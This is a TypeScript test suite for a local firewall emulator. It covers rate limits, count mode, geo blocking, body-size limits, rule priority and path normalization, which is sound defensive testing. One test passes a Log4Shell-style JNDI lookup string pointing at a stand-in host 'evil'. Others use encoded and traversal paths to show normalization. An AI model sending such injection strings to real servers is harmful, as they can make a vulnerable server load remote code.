import { join } from 'node:path';
import { createFirewall } from '../../../infra/firewall/engine';
import type { FirewallOptions, FirewallRequest } from '../../../infra/firewall/engine';
import { loadFirewallRules, parseFirewallRules } from '../../../infra/firewall/rules';

const shipped = loadFirewallRules(join(__dirname, '../../../infra/firewall/firewall-rules.yaml'));
const T0 = Date.UTC(2026, 10, 29, 12, 0, 0);
const FIVE_MINUTES = 300_000;

const request = (overrides: Partial<FirewallRequest> = {}): FirewallRequest => ({
  ip: '198.51.100.7',
  country: 'US',
  method: 'POST',
  uri: '/auth/login',
  bodySize: 120,
  time: T0,
  ...overrides,
});

const rulesFrom = (...rules: string[]) =>
  parseFirewallRules(`version: 1\nrules:\n${rules.map((r) => `  - ${r}`).join('\n')}\n`, 'test.yaml');

/** Sends `n` requests and returns the verdicts. */
function send(firewall: ReturnType<typeof createFirewall>, n: number, make: (i: number) => Partial<FirewallRequest>) {
  return Array.from({ length: n }, (_, i) => firewall.inspect(request(make(i))));
}

describe('rate limits (shipped rules)', () => {
  it('lets 100 /auth/* requests through in 5 minutes and refuses the 101st with 429', () => {
    const firewall = createFirewall(shipped);
    const verdicts = send(firewall, 100, (i) => ({ time: T0 + i * 1000 }));
    expect(verdicts.every((v) => v.action === 'allow')).toBe(true);
    expect(firewall.inspect(request({ time: T0 + 100_000 }))).toEqual({
      action: 'block',
      status: 429,
      rule: 'rate-limit-auth',
      counted: [],
    });
  });

  it('recovers once the window has passed', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 100, () => ({ time: T0 }));
    expect(firewall.inspect(request({ time: T0 + 1 })).action).toBe('block');
    expect(firewall.inspect(request({ time: T0 + 1 + FIVE_MINUTES })).action).toBe('allow');
  });

  it('slides: it forgets requests one by one as they age out, and blocked requests count too', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 100, () => ({ time: T0 }));
    expect(firewall.inspect(request({ time: T0 + FIVE_MINUTES - 1 })).action).toBe('block'); // 101 in the window
    // At T0 + 5 min the first 100 age out; the blocked request 1 ms earlier still counts.
    expect(firewall.inspect(request({ time: T0 + FIVE_MINUTES })).action).toBe('allow');
    const later = send(firewall, 98, () => ({ time: T0 + FIVE_MINUTES + 1 }));
    expect(later.every((v) => v.action === 'allow')).toBe(true); // 100 now
    expect(firewall.inspect(request({ time: T0 + FIVE_MINUTES + 2 })).action).toBe('block');
  });

  it('keeps an IP that keeps hammering blocked until its rate falls back', () => {
    const firewall = createFirewall(shipped);
    // 2 requests a second for 10 minutes: over 100 in every 5-minute window.
    const verdicts = send(firewall, 1200, (i) => ({ time: T0 + i * 500 }));
    expect(verdicts.slice(0, 100).every((v) => v.action === 'allow')).toBe(true);
    expect(verdicts.slice(100).every((v) => v.action === 'block')).toBe(true);
  });

  it('counts each IP on its own', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 101, () => ({}));
    expect(firewall.inspect(request()).action).toBe('block');
    expect(firewall.inspect(request({ ip: '203.0.113.9' })).action).toBe('allow');
  });

  it('scopes down by path: /presign requests do not count against the /auth/* limit', () => {
    const firewall = createFirewall(shipped);
    const presign = send(firewall, 300, () => ({ uri: '/presign' }));
    expect(presign.every((v) => v.action === 'allow')).toBe(true);
    const auth = send(firewall, 100, (i) => ({ uri: `/auth/${i % 2 === 0 ? 'login' : 'refresh'}` }));
    expect(auth.every((v) => v.action === 'allow')).toBe(true);
    expect(firewall.inspect(request({ uri: '/auth/login' }))).toMatchObject({ action: 'block', rule: 'rate-limit-auth' });
    expect(firewall.inspect(request({ uri: '/presign' }))).toMatchObject({ action: 'block', rule: 'rate-limit-presign', status: 429 });
  });

  it('matches paths as WAF and CloudFront do: query ignored, case-sensitive, exact means exact', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 300, () => ({ uri: '/presign?attempt=1' }));
    expect(firewall.inspect(request({ uri: '/presign?attempt=2' })).rule).toBe('rate-limit-presign');
    // None of these is a form route or under /auth/, so only the global limit and the /presign* ceiling see them.
    const others = send(firewall, 300, (i) => ({ uri: ['/presign/', '/AUTH/login', '/auth'][i % 3] ?? '/' }));
    expect(others.every((v) => v.action === 'allow')).toBe(true);
  });

  it('matches the decoded, normalized path, as the web ACL does (no way around a path rule)', () => {
    const firewall = createFirewall(shipped);
    const disguised = ['/auth//login', '/x/../auth/login', '/%61uth/login', '/./auth/refresh', '/presign/../auth/login', '/auth%2Flogin'];
    const verdicts = send(firewall, 100, (i) => ({ uri: disguised[i % disguised.length] ?? '/auth/login' }));
    expect(verdicts.every((v) => v.action === 'allow')).toBe(true);
    // All 100 were counted under /auth/*: the 101st, in whatever form, is refused.
    expect(firewall.inspect(request({ uri: '//auth/login' }))).toMatchObject({ action: 'block', rule: 'rate-limit-auth' });
    const presign = createFirewall(shipped);
    send(presign, 300, (i) => ({ uri: i % 2 === 0 ? '/presign' : '/a/../presign?x=1' }));
    expect(presign.inspect(request({ uri: '/%70resign' })).rule).toBe('rate-limit-presign');
  });

  it('applies the global limit to everything, /auth/* included', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 100, (i) => ({ uri: '/auth/login', time: T0 + i }));
    const site = send(firewall, 1900, (i) => ({ method: 'GET', uri: `/app/${i}`, bodySize: 0, time: T0 + 100 + i }));
    expect(site.every((v) => v.action === 'allow')).toBe(true); // 2,000 in all
    expect(firewall.inspect(request({ method: 'GET', uri: '/', time: T0 + 3000 }))).toEqual({
      action: 'block',
      status: 429,
      rule: 'rate-limit-all',
      counted: [],
    });
  });

  it('reports which IPs tripped which rate limit, and how often', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 103, (i) => ({ time: T0 + i }));
    send(firewall, 302, (i) => ({ ip: '203.0.113.9', uri: '/presign', time: T0 + 200 + i }));
    expect(firewall.trippedRateLimits()).toEqual([
      { rule: 'rate-limit-auth', action: 'block', ip: '198.51.100.7', firstAt: T0 + 100, lastAt: T0 + 102, requestsOverLimit: 3 },
      { rule: 'rate-limit-presign', action: 'block', ip: '203.0.113.9', firstAt: T0 + 500, lastAt: T0 + 501, requestsOverLimit: 2 },
    ]);
  });
});

describe('count mode', () => {
  const counting = rulesFrom('{ name: try-auth, type: rate-limit, priority: 1, action: count, limit: 10, paths: ["/auth/*"] }');

  it('never blocks, but records every request over the limit', () => {
    const firewall = createFirewall(counting);
    const verdicts = send(firewall, 15, (i) => ({ time: T0 + i }));
    expect(verdicts.every((v) => v.action === 'allow')).toBe(true);
    expect(verdicts.map((v) => v.counted.length)).toEqual([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 1]);
    expect(verdicts[10]).toEqual({ action: 'allow', counted: ['try-auth'] });
    expect(firewall.trippedRateLimits()).toEqual([
      { rule: 'try-auth', action: 'count', ip: '198.51.100.7', firstAt: T0 + 10, lastAt: T0 + 14, requestsOverLimit: 5 },
    ]);
  });

  it('lets evaluation go on to the next rule, which may still block', () => {
    const firewall = createFirewall(
      rulesFrom(
        '{ name: watch-geo, type: geo-deny, priority: 1, action: count, countries: [RU] }',
        '{ name: big-bodies, type: body-size, priority: 2, action: block, maxBytes: 100, status: 413 }',
      ),
    );
    expect(firewall.inspect(request({ country: 'RU', bodySize: 50 }))).toEqual({ action: 'allow', counted: ['watch-geo'] });
    expect(firewall.inspect(request({ country: 'RU', bodySize: 500 }))).toEqual({
      action: 'block',
      status: 413,
      rule: 'big-bodies',
      counted: ['watch-geo'],
    });
  });
});

describe('geo deny', () => {
  it('refuses the denied countries with 403 and lets others in', () => {
    const firewall = createFirewall(shipped);
    for (const country of ['CU', 'IR', 'KP', 'SY', 'kp']) {
      expect(firewall.inspect(request({ country }))).toEqual({ action: 'block', status: 403, rule: 'geo-deny', counted: [] });
    }
    expect(firewall.inspect(request({ country: 'US' })).action).toBe('allow');
    expect(firewall.inspect(request({ country: undefined })).action).toBe('allow');
  });

  it('runs first: a denied viewer is never counted by a rate limit', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 500, () => ({ country: 'KP' }));
    const fromElsewhere = send(firewall, 100, () => ({ country: 'US' }));
    expect(fromElsewhere.every((v) => v.action === 'allow')).toBe(true);
  });
});

describe('body size', () => {
  it('blocks bodies over 8 KiB on /auth/* and /presign with 403', () => {
    const firewall = createFirewall(shipped);
    expect(firewall.inspect(request({ bodySize: 8192 })).action).toBe('allow');
    expect(firewall.inspect(request({ bodySize: 8193 }))).toEqual({ action: 'block', status: 403, rule: 'body-size-api', counted: [] });
    expect(firewall.inspect(request({ ip: '192.0.2.1', uri: '/presign', bodySize: 9000 }))).toMatchObject({
      action: 'block',
      rule: 'body-size-api',
    });
  });

  it('leaves other paths and bodies of unknown size alone', () => {
    const firewall = createFirewall(shipped);
    expect(firewall.inspect(request({ uri: '/app/upload', bodySize: 1_000_000 })).action).toBe('allow');
    expect(firewall.inspect(request({ bodySize: undefined })).action).toBe('allow');
    expect(firewall.inspect(request({ bodySize: Number.NaN })).action).toBe('allow');
  });
});

describe('priority order', () => {
  const both = (geoPriority: number, bodyPriority: number) =>
    createFirewall(
      rulesFrom(
        `{ name: geo, type: geo-deny, priority: ${geoPriority}, action: block, countries: [KP] }`,
        `{ name: body, type: body-size, priority: ${bodyPriority}, action: block, maxBytes: 10, status: 413 }`,
      ),
    );

  it('lets the lowest-numbered matching rule decide, whatever the order in the file', () => {
    const big = request({ country: 'KP', bodySize: 100 });
    expect(both(1, 2).inspect(big)).toMatchObject({ rule: 'geo', status: 403 });
    expect(both(2, 1).inspect(big)).toMatchObject({ rule: 'body', status: 413 });
  });

  it('does not count requests a higher-priority rule blocked', () => {
    const firewall = createFirewall(
      rulesFrom(
        '{ name: body, type: body-size, priority: 1, action: block, maxBytes: 10 }',
        '{ name: rate, type: rate-limit, priority: 2, action: block, limit: 10 }',
      ),
    );
    send(firewall, 50, () => ({ bodySize: 100 }));
    expect(send(firewall, 10, () => ({ bodySize: 1 })).every((v) => v.action === 'allow')).toBe(true);
    expect(firewall.inspect(request({ bodySize: 1 })).rule).toBe('rate');
  });
});

describe('managed rule groups', () => {
  it('are listed as not evaluated locally, and let requests through', () => {
    const firewall = createFirewall(shipped);
    expect(firewall.notEvaluatedLocally).toEqual(['aws-ip-reputation', 'aws-known-bad-inputs', 'aws-common']);
    expect(firewall.inspect(request({ uri: '/auth/login?x=${jndi:ldap://evil}' })).action).toBe('allow');
  });
});

describe('time', () => {
  it("takes the request's own time over the clock (replayed logs)", () => {
    let clockCalls = 0;
    const firewall = createFirewall(shipped, { now: () => (clockCalls++, 0) });
    send(firewall, 101, (i) => ({ time: T0 + i }));
    expect(clockCalls).toBe(0);
    expect(firewall.trippedRateLimits()[0]?.firstAt).toBe(T0 + 100);
  });

  it('uses the injected clock for requests without a time (the local edge)', () => {
    let now = T0;
    const firewall = createFirewall(shipped, { now: () => now });
    send(firewall, 100, () => ({ time: undefined }));
    expect(firewall.inspect(request({ time: undefined })).action).toBe('block');
    now += FIVE_MINUTES + 1;
    expect(firewall.inspect(request({ time: undefined })).action).toBe('allow');
  });

  it('never runs backwards: an out-of-order log line counts as the latest time', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 100, () => ({ time: T0 + FIVE_MINUTES }));
    // Earlier than what was seen: still inside the same window, not before it.
    expect(firewall.inspect(request({ time: T0 })).action).toBe('block');
  });
});

describe('bounded memory', () => {
  const options: FirewallOptions = { maxTrackedIps: 3, maxTripRecords: 2 };

  it('tracks at most maxTrackedIps IPs per rate rule, dropping the least recently seen', () => {
    const firewall = createFirewall(shipped, options);
    send(firewall, 10, (i) => ({ ip: `192.0.2.${i}` }));
    expect(firewall.stats().trackedIps).toEqual({
      'rate-limit-auth': 3,
      'rate-limit-presign': 0,
      'rate-limit-presign-all': 0,
      'rate-limit-all': 3,
    });
  });

  it('forgets IPs whose window has emptied', () => {
    const firewall = createFirewall(shipped);
    send(firewall, 10, (i) => ({ ip: `192.0.2.${i}` }));
    send(firewall, 3, (i) => ({ ip: `198.51.100.${i}`, time: T0 + FIVE_MINUTES + i }));
    expect(firewall.stats().trackedIps['rate-limit-auth']).toBe(3);
  });

  it('keeps at most maxTripRecords trips and counts the rest as dropped', () => {
    const firewall = createFirewall(rulesFrom('{ name: r, type: rate-limit, priority: 1, action: count, limit: 10 }'), options);
    for (const ip of ['a', 'b', 'c']) send(firewall, 12, () => ({ ip }));
    expect(firewall.trippedRateLimits().map((t) => t.ip)).toEqual(['a', 'b']);
    expect(firewall.stats()).toMatchObject({ tripRecords: 2, droppedTripRecords: 2 });
  });
});
